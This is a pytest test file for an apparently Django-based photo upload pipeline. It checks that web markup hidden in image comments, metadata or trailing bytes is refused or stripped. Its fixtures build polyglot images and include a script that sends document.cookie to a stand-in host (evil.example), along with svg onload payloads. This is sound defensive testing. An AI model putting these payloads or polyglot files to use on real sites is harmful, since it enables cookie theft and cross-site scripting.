"""Polyglots: real pictures carrying a web page in a comment, a metadata segment or after their end.

Markup in the opening bytes is refused outright (tests/photos/test_validation.py). Further in, the
upload is accepted for its pixels and its metadata, but the part holding the markup is left out of
the stored original, so no file the site stores or serves holds a page a browser could run.
Renditions are re-encoded pixels without metadata (tests/security/test_uploads.py).
"""

import io
import struct

import pytest
from PIL import Image, PngImagePlugin

from articles.models import Photo
from articles.photos.hidden_markup import MarkupInPixels, without_hidden_markup
from articles.photos.library import store_photo
from articles.photos.validation import MARKUP_SNIFF_BYTES, PhotoRejected, validate_upload
from tests.images import encode, insert_jpeg_segment, textured, with_iim, xmp_packet

pytestmark = pytest.mark.django_db

PAGE = b"<html><body><script>fetch('//evil.example/?c='+document.cookie)</script></body></html>"
MARKERS = (b"<script", b"<html", b"<svg", b"<?php", b"<!doctype")
FILLER = b"Shot on the north pier at dawn. " * 64  # 2 KB of innocent text: the page lies past the sniff


def jpeg_with_comment(comment):
    return insert_jpeg_segment(encode(textured((320, 240)), "JPEG"), 0xFE, comment)


def png_with_text(description=PAGE, *, zip_text=False):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", FILLER.decode())
    info.add_text("Description", description.decode(), zip=zip_text)
    return encode(textured((160, 120)), "PNG", pnginfo=info)


def gif_with_comment(comment):
    buffer = io.BytesIO()
    textured((160, 120)).convert("P").save(buffer, "GIF", comment=comment)
    return buffer.getvalue()


def webp_with_xmp(packet):
    return encode(textured((160, 120)), "WEBP", xmp=packet)


def stored_bytes(photo):
    with photo.image.open("rb") as stored:
        return stored.read()


def pixels(content):
    with Image.open(io.BytesIO(content)) as image:
        return image.convert("RGB").tobytes()


def assert_markup_free(content):
    lowered = content.lower()
    assert not [marker for marker in MARKERS if marker in lowered], "markup left in the stored file"


HIDING_PLACES = {
    "JPEG comment past byte 1024": lambda: jpeg_with_comment(FILLER + PAGE),
    "JPEG bytes after the end of the image": lambda: encode(textured((320, 240)), "JPEG") + PAGE,
    "JPEG XMP packet": lambda: insert_jpeg_segment(
        encode(textured((320, 240)), "JPEG"), 0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + FILLER + PAGE
    ),
    "PNG tEXt chunk": png_with_text,
    "PNG bytes after IEND": lambda: encode(textured((160, 120)), "PNG") + FILLER + PAGE,
    "GIF comment": lambda: gif_with_comment(FILLER + PAGE),
    "WebP XMP chunk": lambda: webp_with_xmp(FILLER + b"<svg onload='alert(1)'/>" + PAGE),
}


@pytest.mark.parametrize("place", HIDING_PLACES)
def test_markup_hidden_anywhere_is_left_out_of_the_stored_original(place):
    upload = HIDING_PLACES[place]()
    assert any(marker in upload.lower() for marker in MARKERS)
    assert not any(marker in upload[:MARKUP_SNIFF_BYTES].lower() for marker in MARKERS)

    photo, created = store_photo(upload, filename="pier.jpg")

    stored = stored_bytes(photo)
    assert created and stored != upload
    assert_markup_free(stored)
    assert pixels(stored) == pixels(upload)  # the picture itself is untouched
    validate_upload(stored)  # and what is stored is a whole, valid image of its format
    # The same upload again is recognised as the photo already stored.
    assert store_photo(upload, filename="pier-again.jpg") == (photo, False)
    assert Photo.objects.count() == 1


def test_markup_in_a_compressed_png_text_chunk_is_left_out_too():
    upload = png_with_text(zip_text=True)
    assert b"zTXt" in upload and b"<script" not in upload  # only the inflated text shows it

    stored = validate_upload(upload).content

    assert b"zTXt" not in stored and pixels(stored) == pixels(upload)
    with Image.open(io.BytesIO(stored)) as image:
        assert image.text == {"Comment": FILLER.decode()}


def test_a_caption_in_a_segment_holding_markup_is_still_read_as_clean_text():
    caption = b"<script>alert(1)</script>Mayor opens the bridge<svg onload=alert(2)>"
    upload = with_iim(jpeg_with_comment(FILLER), [((2, 120), caption)])
    # The IPTC segment goes first: push it past the sniffed bytes with a comment in front.
    upload = insert_jpeg_segment(upload, 0xFE, FILLER)

    photo, _created = store_photo(upload)

    assert photo.caption == "Mayor opens the bridge"
    assert_markup_free(stored_bytes(photo))
    assert FILLER in stored_bytes(photo)  # the innocent comments are kept


def test_photos_without_markup_are_stored_byte_for_byte():
    packet = xmp_packet("<dc:creator><rdf:Seq><rdf:li>Jane Roe</rdf:li></rdf:Seq></dc:creator>")
    uploads = [
        encode(textured((320, 240)), "JPEG", xmp=packet, comment=b"Pier at dawn <3 & more"),
        png_with_text(b"<b>bold</b> and x<y are not a page", zip_text=True),
        gif_with_comment(FILLER + b"a < b > c"),
        webp_with_xmp(packet),
    ]
    for upload in uploads:
        accepted = validate_upload(upload)
        assert accepted.content is accepted.received


def test_markup_in_the_opening_bytes_is_still_refused():
    with pytest.raises(PhotoRejected, match="markup"):
        validate_upload(jpeg_with_comment(PAGE))


def test_formats_whose_metadata_shares_the_pixel_box_are_refused_when_they_hold_markup():
    avif_like = b"\x00\x00\x00\x1cftypavif" + b"\x00" * 2000 + struct.pack(">I", 200) + b"mdat" + PAGE
    with pytest.raises(MarkupInPixels):
        without_hidden_markup(avif_like, "AVIF")
    assert without_hidden_markup(avif_like.replace(PAGE, b"x" * len(PAGE)), "AVIF") is not None


@pytest.mark.parametrize("marker", [b"<script>", b"<HTML ", b"<svg/", b"<?php ", b"<!DOCTYPE html>"])
def test_every_marker_is_found_past_the_sniffed_bytes(marker):
    upload = jpeg_with_comment(FILLER + b"then " + marker + b" payload")
    stored = validate_upload(upload).content
    assert marker not in stored and FILLER not in stored  # the whole comment segment goes
    assert pixels(stored) == pixels(upload)
